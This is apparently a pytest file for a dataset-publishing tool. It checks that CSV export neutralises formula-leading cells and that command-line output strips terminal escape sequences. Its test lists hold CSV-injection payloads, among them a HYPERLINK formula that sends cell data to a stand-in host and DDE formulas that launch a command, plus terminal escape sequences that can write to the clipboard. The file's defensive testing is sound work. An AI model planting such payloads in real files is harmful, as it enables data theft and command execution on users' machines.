"""S6: a text that a spreadsheet or a terminal would take for a command is one no more where it is shown there.

In the CSV export a text that begins with =, +, -, @, a tab or a carriage return gets an apostrophe before it, so that a
spreadsheet shows it and does not calculate it. The lossless formats, parquet and JSON lines, keep every text to the
byte. What the command line prints cannot steer the terminal.
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from pairsmith.config import Recipe
from pairsmith.publishing.publish import Published
from tests.command_line import cli
from tests.runs import run

Build = Callable[..., Recipe]
COLUMNS = [
    "prompt", "chosen", "rejected", "chosen_score", "rejected_score", "score_margin", "chosen_member",
    "rejected_member", "source", "prompt_id",
]  # fmt: skip
FORMULAS = [
    '=HYPERLINK("https://evil.example?x="&A1, "look")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "=",
]
HARMLESS = ["a=1", " =1+1", "'=1+1", '"=1+1"', "1-2", "first, second\nthird", "\n=1+1", "", "\ufeff=1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
STEERING = [
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31m",
    "\x07\x08\x7f",
    "a\rb",
    "\x1bP0;1|17/ab\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x0e\x0f\x1bc",
    "[bold red]a[/] [link=x]y[/link]",
]
# Its scores are no whole numbers, so no two answers tie.
JUDGE = {"name": "judge", "backend": "echo", "model": "j", "protocol": "pointwise", "readout": "logprobs"}
UNTIED: dict[str, Any] = {"rating": {"judges": [JUDGE]}, "pairing": {"max_similarity": 1.0}, "evolution": None}
CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def published(build: Build, folder: Path, texts: list[str], exports: tuple[str, ...] = ()) -> Published:
    """A data set of prompts, sources and answers that say these texts."""
    path = folder / "prompts-of-texts.jsonl"
    rows = [{"prompt": text, "source": text} for text in texts]
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    prompts, publishing = {"sources": [{"path": str(path)}]}, {"exports": list(exports)}
    found, summary, _ = run(build(1, prompts=prompts, publishing=publishing, **UNTIED))
    assert summary.paired == len(rows)
    return found


def numbered(texts: list[str]) -> list[str]:
    """Texts of which no two are the same prompt."""
    return [f"{text} {number}" for number, text in enumerate(texts)]


@pytest.fixture
def answering(monkeypatch: pytest.MonkeyPatch) -> Callable[[list[str]], None]:
    """Lets the members answer with these texts, each with a different end."""

    def let(texts: list[str]) -> None:
        def prose(key: str, n_words: int) -> str:
            return texts[int(key[:4], 16) % len(texts)] + f" {key[:6]} {key[6:12] * (n_words % 7)}"

        monkeypatch.setattr("pairsmith.llms.echo._prose", prose)

    return let


def test_s6_lossless_formats_keep_every_text(
    echo_recipe: Build, tmp_path: Path, answering: Callable[[list[str]], None]
) -> None:
    answering(FORMULAS)
    texts = numbered([*FORMULAS, *HARMLESS])
    folder = Path(published(echo_recipe, tmp_path, texts, ("jsonl", "kto")).folder)
    (data,), (lines,), (kto,) = ((folder / name).iterdir() for name in ("data", "jsonl", "kto"))
    rows = pq.read_table(data).to_pylist()
    assert [json.loads(line) for line in lines.read_bytes().split(b"\n") if line] == rows
    assert {row["prompt"][-1]["content"] for row in rows} == set(texts)
    assert {row["source"] for row in rows} == set(texts)
    answers = [row[side][-1]["content"] for row in rows for side in ("chosen", "rejected")]
    assert all(answer.startswith(tuple(FORMULAS)) for answer in answers)
    assert {row["completion"][-1]["content"] for row in pq.read_table(kto).to_pylist()} <= set(answers)


def test_s6_cells_of_the_csv_export_are_neutralised(
    echo_recipe: Build, tmp_path: Path, answering: Callable[[list[str]], None]
) -> None:
    answering([*FORMULAS, "A harmless answer"])
    made = published(echo_recipe, tmp_path, numbered([*FORMULAS, *HARMLESS]), ("csv",))
    (data,), (file,) = Path(made.folder, "data").iterdir(), Path(made.folder, "csv").glob("train-*.csv")
    rows = {row["prompt_id"]: row for row in pq.read_table(data).to_pylist()}
    with open(file, encoding="utf-8-sig", newline="") as lines:
        reader = csv.DictReader(lines, strict=True)
        cells = list(reader)
    assert list(reader.fieldnames or ()) == COLUMNS
    assert {cell["prompt_id"] for cell in cells} == set(rows)
    neutralised = 0
    for cell in cells:
        row = rows[cell["prompt_id"]]
        texts = {side: row[side][-1]["content"] for side in ("prompt", "chosen", "rejected")} | {
            "source": row["source"]
        }
        for name, text in texts.items():
            assert cell[name] == (f"'{text}" if text.startswith(DANGEROUS) else text)
            neutralised += text.startswith(DANGEROUS)
        for name in ("chosen_score", "rejected_score", "score_margin"):
            assert float(cell[name]) == pytest.approx(row[name])
        assert not any(value.startswith(DANGEROUS) for name, value in cell.items() if name in texts)
    assert neutralised > 2 * len(FORMULAS)


def test_s6_nothing_that_is_shown_can_steer_the_terminal() -> None:
    from pairsmith_flows.cli.tables import plain

    assert plain("a\x1b[2J\x07\x9b[b]\n\t").plain == "a\ufffd[2J\ufffd\ufffd[b]\n\t"


def test_s6_show_prints_no_escape_sequence(
    echo_recipe: Build, tmp_path: Path, answering: Callable[[list[str]], None]
) -> None:
    answering(STEERING)
    made = published(echo_recipe, tmp_path, numbered(STEERING))
    told = cli("show", made.folder, "-n", "50", NO_COLOR="1")
    assert told.returncode == 0, told.stderr
    assert told.stdout.count("chosen: ") == len(STEERING)
    assert not CONTROLS.search(told.stdout + told.stderr)
    assert "[bold red]a[/]" in told.stdout


def test_s6_errors_about_rows_print_no_escape_sequence(echo_recipe: Build, file: Callable[..., Path]) -> None:
    rows = [json.dumps({text: 1}) for text in STEERING]
    path = file("steer.jsonl", "".join(f"{row}\n" for row in rows))
    recipe = file("recipe.json", echo_recipe(1, prompts={"sources": [{"path": str(path)}]}).model_dump_json())
    told = cli("run", str(recipe), "--dry-run", NO_COLOR="1")
    assert told.returncode == 3
    assert "none accepted" in told.stderr
    assert not CONTROLS.search(told.stdout + told.stderr)
    path.write_text('{"prompt": "fine"}\n' + path.read_text())
    told = cli("run", str(recipe), "--dry-run", NO_COLOR="1")
    assert told.returncode == 0, told.stderr
    assert f"{len(STEERING)} rows rejected" in told.stdout
    assert not CONTROLS.search(told.stdout + told.stderr)
